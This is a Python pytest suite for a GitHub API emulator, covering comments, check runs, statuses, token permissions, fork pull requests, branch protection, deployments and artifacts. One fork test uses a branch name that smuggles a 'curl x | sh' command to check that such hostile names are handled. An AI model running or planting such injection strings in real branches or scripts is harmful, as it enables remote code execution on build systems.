"""The testbed does what it says: it keeps what was written, refuses what GitHub refuses, and goes wrong as planned."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import github as pygithub
import pytest
import requests

from tests.github.conftest import Ask
from tests.github.contract import contract
from tests.github.emulator import ACTIONS, APP, APP_ID, INSTALLATION
from tests.github.gateway import GitHubServer
from tests.github.messages import Reply, Request
from tests.processes import processes_of

ROOT = Path(__file__).resolve().parents[2]
HEAD, BASE = "a" * 40, "b" * 40
Client = Callable[[str], pygithub.Github]


@pytest.fixture
def client(github: GitHubServer) -> Iterator[Client]:
    """PyGithub, as whoever has a token."""
    made: list[pygithub.Github] = []

    def connect(token: str) -> pygithub.Github:
        auth = pygithub.Auth.Token(token)
        made.append(
            pygithub.Github(
                auth=auth, base_url=github.url, retry=None, seconds_between_requests=0, seconds_between_writes=0
            )
        )
        return made[-1]

    yield connect
    for one in made:
        one.close()


def test_pygithub_writes_and_edits_a_comment(github: GitHubServer, client: Client, number: int) -> None:
    """The default token writes as github-actions[bot], on the page of the pull request."""
    hub = client(github.token(permissions={"pull-requests": "write"}))
    written = hub.get_repo(github.repository).get_pull(number).create_issue_comment("hello")
    written.edit("good bye")
    (comment,) = github.comments(number)
    assert (comment["body"], comment["user"]["login"], comment["user"]["type"]) == ("good bye", ACTIONS, "Bot")
    assert comment["html_url"] == f"https://github.com/{github.repository}/pull/{number}#issuecomment-{written.id}"
    lines = [(call.method, call.status, call.login) for call in github.calls]
    assert lines == [("GET", 200, ACTIONS), ("GET", 200, ACTIONS), ("POST", 201, ACTIONS), ("PATCH", 200, ACTIONS)]


def test_pygithub_reads_more_than_a_page_of_comments(github: GitHubServer, client: Client, number: int) -> None:
    """Those of the past too, oldest first; GitHub gives a hundred at most at a time."""
    for n in range(120):
        github.add_comment(number, "hubot", f"comment {n}", created_at="2020-02-02T00:00:00Z")
    hub = client(github.token(permissions={"pull-requests": "read"}))
    hub.per_page = 100
    found = list(hub.get_repo(github.repository).get_issue(number).get_comments())
    assert [comment.body for comment in found] == [f"comment {n}" for n in range(120)]
    assert found[0].created_at.year == 2020
    pages = [call.query for call in github.calls if call.path.endswith("/comments")]
    assert pages == [{"per_page": "100"}, {"per_page": "100", "page": "2"}]


def test_pygithub_makes_a_check_run_with_annotations(github: GitHubServer, client: Client) -> None:
    """Annotations of a later request are added; GitHub takes fifty at a time."""
    annotations: list[dict[str, Any]] = [
        {
            "path": "a.py",
            "start_line": n,
            "end_line": n,
            "annotation_level": "warning",
            "message": "m",
            "title": f"t{n}",
        }
        for n in range(1, 61)
    ]
    repository = client(github.token(permissions={"checks": "write"})).get_repo(github.repository)
    output: dict[str, Any] = {"title": "t", "summary": "s"}
    run = repository.create_check_run(
        "gate", HEAD, conclusion="failure", output={**output, "annotations": annotations[:50]}
    )
    run.edit(output={**output, "annotations": annotations[50:]})
    (check,) = github.check_runs(HEAD)
    assert (check["name"], check["status"], check["conclusion"]) == ("gate", "completed", "failure")
    assert check["output"]["annotations_count"] == 60
    assert [one["title"] for one in check["annotations"]] == [f"t{n}" for n in range(1, 61)]
    assert [one.start_line for one in run.get_annotations()] == list(range(1, 61))


def test_the_newest_status_of_a_name_counts(github: GitHubServer, ask: Ask) -> None:
    """And a commit is as good as the worst of them."""
    for state, context in (("failure", "gate"), ("success", "other"), ("success", "gate")):
        assert ask("POST", f"statuses/{HEAD}", {"state": state, "context": context}).status_code == 201
    assert ask("GET", f"commits/{HEAD}/status").json()["state"] == "success"
    assert [one["state"] for one in github.statuses(HEAD)] == ["success", "success", "failure"]
    assert (
        ask("POST", f"statuses/{HEAD}", {"state": "failure", "context": "gate", "description": "x" * 141}).ok is False
    )


def test_a_request_that_breaks_the_description_is_a_violation(github: GitHubServer, ask: Ask) -> None:
    """Types, what is required, numbers of entries, and names that nobody knows."""
    annotation = {"path": "a", "start_line": 1, "end_line": 1, "annotation_level": "warning", "message": "m"}
    broken: list[tuple[str, str, Any, str]] = [
        ("POST", "check-runs", {"name": "gate"}, "head_sha"),
        ("POST", "check-runs", {"name": "gate", "head_sha": HEAD, "conclusion": "fine"}, "conclusion"),
        (
            "POST",
            "check-runs",
            {
                "name": "gate",
                "head_sha": HEAD,
                "output": {"title": "", "summary": "", "annotations": [annotation] * 51},
            },
            "annotations",
        ),
        ("POST", f"statuses/{HEAD}", {"state": "failure", "contxt": "gate"}, "contxt"),
        ("GET", "pulls?perpage=100", None, "perpage"),
        ("GET", "pulls/one", None, "pull_number"),
        ("GET", "no-such-thing", None, "no-such-thing"),
    ]
    for method, path, body, told in broken:
        ask(method, path, body)
        assert github.violations, path
        assert told in "".join(github.violations), path
        assert github.unexpected() == github.violations
        github.violations.clear()


def test_an_answer_that_breaks_the_description_is_a_violation() -> None:
    """Whoever gave it; an error may have a status that is not described."""
    asked = Request("GET", "/repos/octocat/churn/issues/1/comments")
    assert contract().of_reply(asked, Reply(200, [])) == []
    assert contract().of_reply(asked, Reply(502, {"message": "Server Error"})) == []
    assert "required" in contract().of_reply(asked, Reply(200, [{"id": 1}]))[0]
    assert contract().of_reply(asked, Reply(206, [])) != []


def test_a_test_that_breaks_the_description_fails(tmp_path: Path) -> None:
    """Though it asserts nothing: the fixture looks at the end."""
    lines = [
        "import requests",
        "def test_it(github):",
        "    requests.get(f'{github.url}/repos/{github.repository}/pulls?perpage=1', timeout=20)",
        "def test_well(github):",
        "    requests.get(f'{github.url}/repos/{github.repository}/pulls?per_page=1', timeout=20)",
    ]
    (tmp_path / "test_it.py").write_text("\n".join(lines), "utf-8")
    options = ["-p", "tests.github.fixtures", "-p", "no:cacheprovider", "--rootdir", str(tmp_path), str(tmp_path)]
    done = subprocess.run(
        [sys.executable, "-m", "pytest", *options], cwd=ROOT, capture_output=True, text=True, check=False
    )
    assert "2 passed, 1 error" in done.stdout, done.stdout
    assert "there is no parameter 'perpage'" in done.stdout


def test_a_violation_can_be_expected(github: GitHubServer, ask: Ask) -> None:
    """With its reason; the fixture fails on any other."""
    ask("GET", "pulls?perpage=100")
    github.allow("perpage", "this test says it")
    assert github.unexpected() == []


@pytest.mark.parametrize(
    ("method", "path", "body", "needs"),
    [
        ("POST", "issues/1/comments", {"body": "x"}, "issues=write; pull_requests=write"),
        ("POST", "check-runs", {"name": "gate", "head_sha": HEAD}, "checks=write"),
        ("POST", f"statuses/{HEAD}", {"state": "success"}, "statuses=write"),
        ("GET", "actions/runs/1/artifacts", None, "actions=read"),
        ("GET", "branches/main/protection/required_status_checks", None, "administration=read"),
        ("GET", "/orgs/octo-org/teams/justice/memberships/hubot", None, "members=read"),
    ],
)
def test_a_token_without_the_permission_is_refused(  # one row each
    github: GitHubServer, ask: Ask, number: int, method: str, path: str, body: Any, needs: str
) -> None:
    """In GitHub's words, and the header says what it takes; nothing was written."""
    refused = ask(method, path, body, token=github.token(permissions={"contents": "read", "metadata": "read"}))
    assert refused.status_code == 403
    assert refused.json()["message"] == "Resource not accessible by integration"
    assert refused.json()["documentation_url"].startswith("https://docs.github.com/rest/")
    assert refused.headers["x-accepted-github-permissions"] == needs
    assert (github.comments(number), github.check_runs(HEAD), github.statuses(HEAD)) == ([], [], [])


def test_either_of_two_permissions_lets_comment(github: GitHubServer, ask: Ask, number: int) -> None:
    """`issues: write` as well as `pull-requests: write`; reading is not enough."""
    for permissions, status in (
        ({"issues": "write"}, 201),
        ({"pull-requests": "write"}, 201),
        ({"issues": "read"}, 403),
    ):
        token = github.token(permissions=permissions)
        assert ask("POST", f"issues/{number}/comments", {"body": "x"}, token=token).status_code == status


def test_who_a_token_belongs_to(github: GitHubServer, ask: Ask) -> None:
    """GraphQL tells every token; `GET /user` refuses that of an App; one that is unknown is refused."""
    query = {"query": "{ viewer { login } }"}
    for login in (ACTIONS, APP, "hubot"):
        answer = ask("POST", "/graphql", query, token=github.token(login))
        assert answer.json() == {"data": {"viewer": {"login": login}}}
    assert ask("GET", "/user", token=github.token()).status_code == 403
    assert ask("GET", "/user", token=github.token("hubot")).json()["login"] == "hubot"
    revoked = github.token()
    github.revoke(revoked)
    assert ask("GET", "", token=revoked).json()["message"] == "Bad credentials"


def test_a_person_may_not_make_check_runs(github: GitHubServer, ask: Ask) -> None:
    """Only Apps may; a status takes a role that may write."""
    token = github.token("octo-lead")
    github.set_permission("octo-lead", "read")
    assert ask("POST", f"statuses/{HEAD}", {"state": "success"}, token=token).status_code == 403
    github.set_permission("octo-lead", "maintain")
    assert ask("POST", f"statuses/{HEAD}", {"state": "success"}, token=token).status_code == 201
    refused = ask("POST", "check-runs", {"name": "gate", "head_sha": HEAD}, token=token)
    assert refused.json()["message"] == "You must authenticate via a GitHub App."


def test_what_a_person_may_do(github: GitHubServer, ask: Ask) -> None:
    """The old name beside the role's; everybody may read what is public; who is nobody is not there."""
    github.set_permission("hubot", "triage")
    github.set_permission("octo-lead", "maintain")
    found = {}
    for login in ("octocat", "octo-lead", "hubot", "mallory"):
        told = ask("GET", f"collaborators/{login}/permission").json()
        found[login] = (told["permission"], told["role_name"], told["user"]["permissions"]["push"])
    assert found == {
        "octocat": ("admin", "admin", True),
        "octo-lead": ("write", "maintain", True),
        "hubot": ("read", "triage", False),
        "mallory": ("read", "read", False),
    }
    assert ask("GET", f"collaborators/{ACTIONS}/permission").status_code == 404


def test_a_pull_request_of_a_fork(github: GitHubServer, ask: Ask) -> None:
    """With commits, a branch and a repository that the emulator does not know; found by its head."""
    branch = '"; curl x | sh #'
    number = github.open_pull_request(
        head_sha=HEAD, base_sha=BASE, head_branch=branch, head_repository="mallory/churn", number=3, merge_sha="c" * 40
    )
    told = ask("GET", f"pulls/{number}").json()
    assert (number, told["head"]["sha"], told["base"]["sha"], told["merge_commit_sha"]) == (3, HEAD, BASE, "c" * 40)
    assert (told["head"]["ref"], told["head"]["repo"]["full_name"], told["head"]["repo"]["fork"]) == (
        branch,
        "mallory/churn",
        True,
    )
    assert [one["number"] for one in ask("GET", "pulls?head=mallory:%22;%20curl%20x%20%7C%20sh%20%23").json()] == [3]
    assert ask("GET", "pulls?head=octocat:feature").json() == []
    assert [one["number"] for one in ask("GET", f"commits/{HEAD}/pulls").json()] == [3]
    assert ask("GET", f"issues/{number}").json()["pull_request"]["url"] == told["url"]
    github.close_pull_request(number)
    assert ask("GET", "pulls").json() == []
    assert ask("GET", f"pulls/{number}").json()["state"] == "closed"


def test_a_comment_has_at_most_65536_characters(ask: Ask, number: int) -> None:
    """As on GitHub, whose description does not say so."""
    assert ask("POST", f"issues/{number}/comments", {"body": "x" * 65_536}).status_code == 201
    refused = ask("POST", f"issues/{number}/comments", {"body": "x" * 65_537})
    assert (refused.status_code, "too long" in refused.text) == (422, True)


def test_what_a_branch_demands(github: GitHubServer, ask: Ask) -> None:
    """By a ruleset, which everybody may read, and by its protection, which takes `administration: read`."""
    github.require_checks("main", ["gate"], app=15368)
    github.require_checks("release/1", ["old"], by="protection")
    (rule,) = ask("GET", "rules/branches/main").json()
    assert rule["parameters"]["required_status_checks"] == [{"context": "gate", "integration_id": 15368}]
    branch = ask("GET", "branches/release%2F1", token=github.token("octocat")).json()
    assert branch["protection"]["required_status_checks"]["contexts"] == ["old"]
    administrator = github.token(APP, {"administration": "read"})
    path = "branches/{}/protection/required_status_checks"
    assert ask("GET", path.format("release%2F1"), token=administrator).json()["contexts"] == ["old"]
    assert ask("GET", path.format("main"), token=administrator).json()["message"] == "Branch not protected"


def test_an_environment_that_wants_a_review(github: GitHubServer, ask: Ask) -> None:
    """Whoever started the run may not approve it themselves, strangers may not, and whoever may is noted."""
    github.add_environment("production", ["octocat", "octo-lead"], prevent_self_review=True)
    run = github.add_run(pending=["production"], status="waiting", conclusion=None, actor="octocat")
    reader = github.token(permissions={"actions": "read"})
    (pending,) = ask("GET", f"actions/runs/{run}/pending_deployments", token=reader).json()
    review = {"environment_ids": [pending["environment"]["id"]], "state": "approved", "comment": "looks good"}
    for login, status in (("octocat", 403), ("mallory", 403), ("octo-lead", 200)):
        github.set_permission(login, "write")
        answer = ask("POST", f"actions/runs/{run}/pending_deployments", review, token=github.token(login))
        assert answer.status_code == status, login
    (approval,) = ask("GET", f"actions/runs/{run}/approvals", token=reader).json()
    assert (approval["user"]["login"], approval["state"], approval["comment"]) == (
        "octo-lead",
        "approved",
        "looks good",
    )
    assert ask("GET", f"actions/runs/{run}/pending_deployments", token=reader).json() == []


def test_a_deployment_and_its_statuses(github: GitHubServer, client: Client) -> None:
    """Kept, newest first; a status that failed is in the way."""
    token = github.token(permissions={"deployments": "write", "statuses": "write"})
    repository = client(token).get_repo(github.repository)
    made = repository.create_deployment(HEAD, environment="staging", required_contexts=[])
    made.create_status("in_progress")
    made.create_status("success", environment_url="https://example.com/")
    assert [one.state for one in made.get_statuses()] == ["success", "in_progress"]
    assert [one.id for one in repository.get_deployments(environment="staging")] == [made.id]
    with pytest.raises(pygithub.GithubException, match="failed"):
        repository.create_deployment(HEAD, required_contexts=["gate"])


def test_an_upload_is_fetched_without_the_token(github: GitHubServer, ask: Ask) -> None:
    """GitHub sends to a storage, which refuses whoever shows a token."""
    run = github.add_run(head_sha=HEAD, head_repository="mallory/churn")
    number = github.add_artifact(run, "bundle", {"run.json": b"{}"})
    token = github.token(permissions={"actions": "read"})
    (upload,) = ask("GET", f"actions/runs/{run}/artifacts?name=bundle", token=token).json()["artifacts"]
    assert (upload["id"], upload["workflow_run"]["head_sha"]) == (number, HEAD)
    place = ask("GET", f"actions/artifacts/{number}/zip", token=token).headers["location"]
    archive = requests.get(place, timeout=20)
    assert archive.content[:2] == b"PK"
    assert len(archive.content) == upload["size_in_bytes"]
    assert requests.get(place, headers={"authorization": f"Bearer {token}"}, timeout=20).status_code == 401
    expired = github.add_artifact(run, "old", b"PK", expired=True)
    assert ask("GET", f"actions/artifacts/{expired}/zip", token=token).status_code == 410


def test_a_team_takes_a_token_of_the_organisation(github: GitHubServer, ask: Ask) -> None:
    """That has `members: read`; a stranger to the team is not found in it."""
    slug = f"keepers-{github.repository[-8:]}"
    github.add_team(slug, ["octo-lead"])
    token = github.token(APP, {"members": "read"})
    place = f"/orgs/octo-org/teams/{slug}"
    assert ask("GET", f"{place}/memberships/octo-lead", token=token).json()["state"] == "active"
    assert ask("GET", f"{place}/memberships/hubot", token=token).status_code == 404
    assert ask("GET", place, token=token).json()["members_count"] == 1


def test_a_reaction_stays_one(github: GitHubServer, ask: Ask, number: int) -> None:
    """Whoever gives it twice has given it once."""
    comment = github.add_comment(number, "hubot", "/approve")
    place = f"issues/comments/{comment}/reactions"
    assert [ask("POST", place, {"content": "eyes"}).status_code for _ in range(2)] == [201, 200]
    assert github.reactions(comment) == [(ACTIONS, "eyes")]
    assert ask("GET", f"issues/comments/{comment}").json()["reactions"]["eyes"] == 1


def test_repositories_are_apart(make_github: Callable[..., GitHubServer]) -> None:
    """Two tests see nothing of each other, though they have one emulator."""
    one, other = make_github(), make_github(owner="octo-org", private=True)
    number = one.open_pull_request(head_sha=HEAD, base_sha=BASE)
    assert other.repository.startswith("octo-org/churn-")
    token = other.token(permissions={"pull-requests": "read"})
    for server, repository in ((other, one.repository), (other, other.repository)):
        asked = f"{server.url}/repos/{repository}/issues/{number}/comments"
        assert requests.get(asked, headers={"authorization": f"token {token}"}, timeout=20).status_code == 404


def test_an_app_gets_a_token(github: GitHubServer, number: int) -> None:
    """By its key, with the permissions that it names; what it writes is its own."""
    app = pygithub.Auth.AppAuth(APP_ID, github.world.emulator.app_key)
    auth = app.get_installation_auth(INSTALLATION, {"pull_requests": "write"})
    options: dict[str, Any] = {"retry": None, "seconds_between_requests": 0, "seconds_between_writes": 0}
    with pygithub.Github(auth=auth, base_url=github.url, **options) as hub:
        repository = hub.get_repo(github.repository)
        repository.get_pull(number).create_issue_comment("hello")
        with pytest.raises(pygithub.GithubException, match="not accessible"):
            repository.create_check_run("gate", HEAD)
    assert [comment["user"]["login"] for comment in github.comments(number)] == [APP]


def test_a_private_repository_is_not_there_for_strangers(make_github: Callable[..., GitHubServer]) -> None:
    """Whoever has no role in it, and whoever has no token."""
    server = make_github(private=True)
    server.set_permission("hubot", "read")
    found = {}
    for login in ("octocat", "hubot", "mallory", ACTIONS):
        headers = {"authorization": f"token {server.token(login)}"}
        found[login] = requests.get(f"{server.url}/repos/{server.repository}", headers=headers, timeout=20).status_code
    assert found == {"octocat": 200, "hubot": 200, "mallory": 404, ACTIONS: 200}


def test_nothing_is_left_running() -> None:
    """The emulator ends with whoever started it, even if that was killed."""
    from tests.github.emulator import Emulator  # noqa: PLC0415  # one of its own

    own = Emulator()
    assert processes_of(own.folder)
    assert own._process.stdin
    own._process.stdin.close()
    assert own._process.wait(timeout=30) == 0
    own.stop()
    assert not own.folder.exists()
    assert processes_of(own.folder) == []


def test_the_packages_are_pinned() -> None:
    """Exactly, and the lock says of each what it must be, and of none where it came from."""
    folder = Path(__file__).parent
    asked = json.loads((folder / "package.json").read_text("utf-8"))
    locked = json.loads((folder / "package-lock.json").read_text("utf-8"))["packages"]
    assert asked["dependencies"]["emulate"] == "0.11.2"
    assert all(version[0].isdigit() for version in asked["dependencies"].values())
    assert locked.pop("")["dependencies"] == asked["dependencies"]
    assert all("integrity" in entry and "resolved" not in entry for entry in locked.values())
